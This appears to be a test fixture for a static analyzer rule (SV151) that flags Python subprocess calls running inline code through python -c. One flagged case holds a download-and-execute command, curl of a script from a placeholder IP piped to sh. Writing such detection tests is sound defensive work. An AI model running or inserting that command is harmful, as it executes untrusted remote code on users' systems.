import base64
import subprocess
import sys
subprocess.run([sys.executable, "-c", "import os; os.system('curl -s http://203.0.113.2/x | sh')"])  # want "SV151: python -c runs inline code that calls os.system"
subprocess.Popen(["python3", "-c", base64.b64decode("cHJpbnQoMSk=")])  # want "SV151: python -c runs decoded data"
subprocess.run([sys.executable, "-c", "print('hello')"])
subprocess.run([sys.executable, "-m", "pip", "--version"])
